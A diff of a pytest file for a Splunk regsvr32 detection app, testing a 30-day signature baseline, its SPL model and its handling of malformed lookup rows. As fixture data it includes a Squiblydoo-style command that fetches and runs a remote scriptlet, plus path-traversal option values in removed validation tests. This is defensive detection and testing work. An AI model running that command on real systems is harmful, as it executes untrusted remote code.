@@ -1,20 +1,65 @@
-"""The 30-day baseline through the real protocol: | regsvr32detect baseline=<lookup> marks rows new
-or known, | regsvr32detect mode=baseline updates the lookup (what the scheduled search's outputlookup
-then stores). One signature goes new -> known -> new again after the retention period."""
-import csv
+"""The 30-day baseline: the command computes regsvr32_signature (through the real protocol), the
+SPL does the rest. spl_baseline models that SPL pipe by pipe; the first tests check the model is
+the SPL the app ships. One signature goes new -> known -> new again after the retention period,
+and the bad lookup rows and time ranges of issue 12 cost only themselves."""
+import re
 
 import pytest
 
 import chunked
+import spl_baseline as spl
 from events import sysmon1
-from regsvr32_detector.baseline import COLUMNS, DAY, DEFAULT_DAYS
+from regsvr32_detector.signature import MAX_CHARS
+from test_conf import conf
 
+DAY = spl.DAY
 T0 = 1700000000.0           # day 0 of the story, 2023-11-14
 SQUIBLY = sysmon1("regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll")
 OTHER_USER_SQUIBLY = sysmon1("regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll",
                              user="CORP\\bob", computer="WS02")
 INSTALL = sysmon1("regsvr32 /s \"C:\\Program Files\\Vendor\\v2.1\\x.dll\"")
 NOTEPAD = sysmon1("notepad.exe", image="C:\\Windows\\System32\\notepad.exe")
+MACROS = conf("macros.conf")
+SAVED = conf("savedsearches.conf")
+
+
+def expand(spl_text):
+    """Backticked macros replaced by their definitions (arguments substituted), recursively."""
+    def one(match):
+        name, _, rest = match.group(1).partition("(")
+        args = [a.strip() for a in rest.rstrip(")").split(",")] if rest else []
+        stanza = MACROS["%s(%d)" % (name, len(args))] if args else MACROS[name]
+        text = stanza["definition"]
+        for param, value in zip(stanza.get("args", "").split(","), args):
+            text = text.replace("$%s$" % param.strip(), value)
+        return expand(text)
+    return re.sub(r"`([^`]+)`", one, spl_text)
+
+
+def pipes(spl_text):
+    return " ".join(expand(spl_text).split())
+
+
+def test_the_model_is_the_update_search_the_app_ships():
+    update = pipes(SAVED["regsvr32 - Baseline - Update"]["search"])
+    head, tail = update.split(" | regsvr32detect | ", 1)
+    assert head == pipes("`regsvr32_events`")
+    assert tail == " | ".join(spl.UPDATE)
+
+
+def test_the_model_is_the_macro_the_app_ships_and_the_searches_use_it():
+    assert pipes("`regsvr32_new_vs_baseline`") == " | ".join(spl.NEW_VS_BASELINE)
+    assert MACROS["regsvr32_baseline_days"]["definition"] == str(spl.DAYS)
+    new_search = SAVED["regsvr32 - New Since Last Month - Rule"]["search"]
+    assert re.search(r"\| regsvr32detect \\?\s*\| where regsvr32_signature!=\"\" \\?\s*"
+                     r"\| `regsvr32_new_vs_baseline` \\?\s*\| search regsvr32_new=true", new_search)
+    assert spl.MAX_SIGNATURE == MAX_CHARS          # no signature the detector writes is dropped
+
+
+def test_the_lookup_is_one_row_per_signature_to_splunk_too():
+    stanza = conf("transforms.conf")["regsvr32_baseline"]
+    assert (stanza["filename"], stanza["max_matches"], stanza["case_sensitive_match"]) == \
+        ("regsvr32_baseline.csv", "1", "true")
 
 
 def at(record, day):
@@ -26,39 +71,23 @@ class Story(object):
 
     def __init__(self, app):
         self.app = app
-        self.lookup = app / "lookups" / "regsvr32_baseline.csv"
+        self.lookup = str(app / "lookups" / "regsvr32_baseline.csv")
 
-    def script(self):
-        return str(self.app / "bin" / "regsvr32detect.py")
-
-    def mark(self, *events, days=None):
-        args = ["baseline=regsvr32_baseline"] + (["baseline_days=%d" % days] if days else [])
-        result = chunked.run(args, [list(events)], script=self.script())
-        assert result.returncode == 0 and not result.texts("ERROR"), result.messages
+    def annotate(self, *events):
+        result = chunked.run([], [list(events)], script=str(self.app / "bin" / "regsvr32detect.py"))
+        assert result.returncode == 0 and result.messages == [], result.messages
         return result.rows
 
-    def update(self, day, *events):
-        """The daily update at the end of DAY over that day's events: annotate, stats, mode=baseline,
-        then store the rows as outputlookup does."""
-        annotated = chunked.run([], [list(events)], script=self.script()).rows
-        sightings = {}
-        for row in annotated:       # stats min(_time) max(_time) count by regsvr32_signature
-            if row["regsvr32_signature"]:
-                first, last, count = sightings.get(row["regsvr32_signature"], (1e18, 0.0, 0))
-                when = float(row["_time"])
-                sightings[row["regsvr32_signature"]] = (min(first, when), max(last, when), count + 1)
-        rows = [{"regsvr32_signature": s, "first_seen": repr(f), "last_seen": repr(l), "count": str(c)}
-                for s, (f, l, c) in sorted(sightings.items())]
-        result = chunked.run(["mode=baseline", "baseline=regsvr32_baseline"], [rows[:1], rows[1:]],
-                             script=self.script(),
-                             searchinfo={"latest_time": "%.3f" % (T0 + (day + 1) * DAY)})
-        assert result.returncode == 0 and result.messages == [], result.messages
-        assert result.getinfo["type"] == "stateful"      # once, on the search head
-        with open(str(self.lookup), "w", newline="", encoding="utf-8") as f:
-            writer = csv.DictWriter(f, fieldnames=COLUMNS)
-            writer.writeheader()
-            writer.writerows(result.rows)
-        return {r["regsvr32_signature"]: r for r in result.rows}
+    def mark(self, *events):
+        """| regsvr32detect | `regsvr32_new_vs_baseline`"""
+        return spl.new_vs_baseline(self.annotate(*events), self.lookup)
+
+    def update(self, day, *events, **info):
+        """The daily update at 01:17 after DAY, over that day's events."""
+        info.setdefault("info_max_time", T0 + (day + 1) * DAY)
+        info.setdefault("info_search_time", T0 + (day + 1) * DAY + 4620)
+        rows = spl.update(self.annotate(*events), self.lookup, **info)
+        return dict((r["regsvr32_signature"], r) for r in rows)
 
 
 @pytest.fixture
@@ -67,38 +96,38 @@ def story(app_copy):
 
 
 def new(rows):
-    return [r["regsvr32_new"] for r in rows]
+    return [r.get("regsvr32_new") for r in rows]
 
 
 def test_new_then_known_then_new_again_after_the_retention_period(story):
-    # Day 0: no baseline yet. Everything regsvr32 is new; other rows get empty marks.
+    # Day 0: no baseline yet. Everything regsvr32 is new; other rows get neither field.
     rows = story.mark(at(SQUIBLY, 0), at(NOTEPAD, 0))
-    assert new(rows) == ["true", ""] and rows[0]["regsvr32_first_seen"] == ""
+    assert new(rows) == ["true", None] and "regsvr32_first_seen" not in rows[0]
     entries = story.update(0, at(SQUIBLY, 0), at(NOTEPAD, 0))
-    assert list(entries) == [rows[0]["regsvr32_signature"]]
-    assert entries[rows[0]["regsvr32_signature"]]["count"] == "1"
+    squibly = rows[0]["regsvr32_signature"]
+    assert list(entries) == [squibly] and entries[squibly]["count"] == "1"
 
     # Day 5: the same thing on another host by another user is known; an installer is new.
     rows = story.mark(at(OTHER_USER_SQUIBLY, 5), at(INSTALL, 5))
     assert new(rows) == ["false", "true"]
     assert float(rows[0]["regsvr32_first_seen"]) == T0
+    install = rows[1]["regsvr32_signature"]
     entries = story.update(5, at(OTHER_USER_SQUIBLY, 5), at(INSTALL, 5))
-    squibly = entries[rows[0]["regsvr32_signature"]]
-    assert (float(squibly["first_seen"]), float(squibly["last_seen"]), squibly["count"]) == \
-        (T0, T0 + 5 * DAY, "2")
+    assert [float(entries[squibly]["first_seen"]), float(entries[squibly]["last_seen"]),
+            entries[squibly]["count"]] == [T0, T0 + 5 * DAY, "2"]
 
     # Day 20: not seen since day 5, still inside the window, and kept by an update without it.
     assert new(story.mark(at(SQUIBLY, 20))) == ["false"]
-    assert rows[0]["regsvr32_signature"] in story.update(20, at(INSTALL, 20))
+    assert squibly in story.update(20, at(INSTALL, 20))
 
     # Day 36: last seen 31 days ago, so new again (first_seen still says when it was first met),
     # and the next update drops it.
     (row,) = story.mark(at(SQUIBLY, 36))
     assert row["regsvr32_new"] == "true" and float(row["regsvr32_first_seen"]) == T0
     entries = story.update(36, at(INSTALL, 36))
-    assert rows[0]["regsvr32_signature"] not in entries and rows[1]["regsvr32_signature"] in entries
+    assert squibly not in entries and install in entries
     (row,) = story.mark(at(SQUIBLY, 37))
-    assert row["regsvr32_new"] == "true" and row["regsvr32_first_seen"] == ""
+    assert row["regsvr32_new"] == "true" and "regsvr32_first_seen" not in row
 
 
 def test_an_event_at_or_before_its_first_sighting_is_new(story):
@@ -107,47 +136,68 @@ def test_an_event_at_or_before_its_first_sighting_is_new(story):
     assert new(story.mark(at(SQUIBLY, 3), at(SQUIBLY, 2), at(SQUIBLY, 4))) == ["true", "true", "false"]
 
 
-@pytest.mark.parametrize(("days", "expected"), [(DEFAULT_DAYS, "true"), (60, "false")])
-def test_baseline_days_sets_the_window(story, days, expected):
-    story.update(0, at(SQUIBLY, 0))
-    assert new(story.mark(at(SQUIBLY, 45), days=None if days == DEFAULT_DAYS else days)) == [expected]
-
-
-def test_update_takes_plain_events_and_merges_repeats(story):
-    annotated = chunked.run([], [[at(SQUIBLY, 0), at(OTHER_USER_SQUIBLY, 1), at(NOTEPAD, 1)]],
-                            script=story.script()).rows
-    result = chunked.run(["mode=baseline", "baseline=regsvr32_baseline"], [annotated[:1], annotated[1:]],
-                         script=story.script(), searchinfo={"latest_time": "%.3f" % (T0 + 2 * DAY)})
-    (row,) = result.rows
-    assert (float(row["first_seen"]), float(row["last_seen"]), row["count"]) == (T0, T0 + DAY, "2")
-    assert sorted(row) == sorted(COLUMNS)
-
-
-def test_every_row_gets_the_baseline_fields_and_rows_keep_their_order(story):
+def test_every_row_keeps_its_place_and_only_signature_rows_are_marked(story):
     story.update(0, at(SQUIBLY, 0))
     events = [at(NOTEPAD, 1), at(SQUIBLY, 1), {"sample": "no _time"}, at(INSTALL, 1)]
     rows = story.mark(*events)
-    assert [r.get("_time") for r in rows] == [e.get("_time", "") for e in events]
-    assert all("regsvr32_first_seen" in r and "regsvr32_new" in r for r in rows)
-    assert new(rows) == ["", "false", "", "true"]
+    assert [r.get("_time", "") for r in rows] == [e.get("_time", "") for e in events]
+    assert new(rows) == [None, "false", None, "true"]
 
 
-def test_bad_baseline_rows_warn_and_the_rest_apply(story):
-    story.lookup.write_text(",".join(COLUMNS) + "\nx,not-a-time,1,1\n" + "y,1,2,3\n", encoding="utf-8")
-    result = chunked.run(["baseline=regsvr32_baseline"], [[SQUIBLY]], script=story.script())
-    assert any("regsvr32_baseline.csv:2" in w for w in result.texts("WARN"))
-    assert result.rows[0]["regsvr32_new"] == "true"
+# Issue 12 item 2, with the baseline in SPL: rows that once broke every baseline= search.
+GOOD_TIME = "%d" % (T0 + 2 * DAY)
+BAD_ROWS = [
+    ("nan first_seen", ["nan", GOOD_TIME, "1"]),
+    ("inf first_seen", ["inf", GOOD_TIME, "1"]),
+    ("inf last_seen", [GOOD_TIME, "inf", "1"]),
+    ("count 1e400", [GOOD_TIME, GOOD_TIME, "1e400"]),
+    ("count many", [GOOD_TIME, GOOD_TIME, "many"]),
+    ("a date", ["2025-11-22", GOOD_TIME, "1"]),
+    ("braces", [GOOD_TIME, GOOD_TIME, "{x}"]),
+    ("negative", ["-5", GOOD_TIME, "1"]),
+    ("empty", ["", "", ""]),
+    ("10 MB of digits", ["1" * 10000000, GOOD_TIME, "1"]),
+    ("multivalue time", [[GOOD_TIME, GOOD_TIME], GOOD_TIME, "1"]),
+]
 
 
-@pytest.mark.parametrize(("args", "says"), [
-    (["baseline=../x"], "baseline must be one lookup name"),
-    (["baseline=a,b"], "baseline must be one lookup name"),
-    (["baseline=/etc/passwd"], "baseline must be one lookup name"),
-    (["baseline_days=0"], "baseline_days must be an integer from 1 to 3650"),
-    (["mode=baseline"], "mode=baseline needs baseline=<lookup>"),
-    (["mode=sideways"], "mode must be annotate, filter or baseline"),
-])
-def test_bad_baseline_options_stop_the_search(args, says):
-    result = chunked.run(args, [[SQUIBLY]])
-    assert any(says in e for e in result.texts("ERROR")), result.messages
-    assert result.replies == [] and result.returncode != 0
+def write_baseline(story, rows):
+    spl.write_lookup(story.lookup, [dict(zip(spl.COLUMNS, row)) for row in rows])
+
+
+@pytest.mark.parametrize(("why", "cells"), BAD_ROWS, ids=[b[0] for b in BAD_ROWS])
+def test_a_bad_lookup_row_costs_only_itself(story, why, cells):
+    (squibly,) = [r["regsvr32_signature"] for r in story.annotate(SQUIBLY)]
+    (install,) = [r["regsvr32_signature"] for r in story.annotate(INSTALL)]
+    write_baseline(story, [[squibly] + cells, [install, "%d" % T0, GOOD_TIME, "4"]])
+    # Marking reads the times only: a row with bad times is as if unknown (new); a bad count does
+    # not matter there. The good row still applies.
+    times_usable = why.startswith("count") or why == "braces"
+    assert new(story.mark(at(SQUIBLY, 3), at(INSTALL, 3))) == ["false" if times_usable else "true", "false"]
+    # The update drops the bad row, keeps and extends the good one.
+    entries = story.update(3, at(INSTALL, 3))
+    assert list(entries) == [install] and entries[install]["count"] == "5"
+
+
+@pytest.mark.parametrize("signature", [["a", "b"], "x" * 10000000, ""], ids=["multivalue", "10 MB", "empty"])
+def test_bad_signatures_in_the_lookup_are_dropped(story, signature):
+    (install,) = [r["regsvr32_signature"] for r in story.annotate(INSTALL)]
+    write_baseline(story, [[signature, "%d" % T0, GOOD_TIME, "1"], [install, "%d" % T0, GOOD_TIME, "1"]])
+    assert list(story.update(3, at(INSTALL, 3))) == [install]
+
+
+@pytest.mark.parametrize("latest", [T0 + 4000 * DAY, "+Infinity"])
+def test_a_time_range_ending_in_the_future_prunes_nothing_early(story, latest):
+    story.update(0, at(SQUIBLY, 0))
+    # Run on day 20 over a range that ends far in the future (or all time): "now" is the run.
+    entries = story.update(19, at(INSTALL, 19), info_max_time=latest, info_search_time=T0 + 20 * DAY)
+    assert len(entries) == 2
+
+
+def test_a_backfill_prunes_as_the_daily_update_would_have_then(story):
+    story.update(0, at(SQUIBLY, 0))
+    # A backfill of day 40 run on day 41 drops what was last seen on day 0 ...
+    assert len(story.update(40, at(INSTALL, 40))) == 1
+    story.update(0, at(SQUIBLY, 0))
+    # ... and one of day 10, run much later, keeps it.
+    assert len(story.update(10, at(INSTALL, 10), info_search_time=T0 + 400 * DAY)) == 2
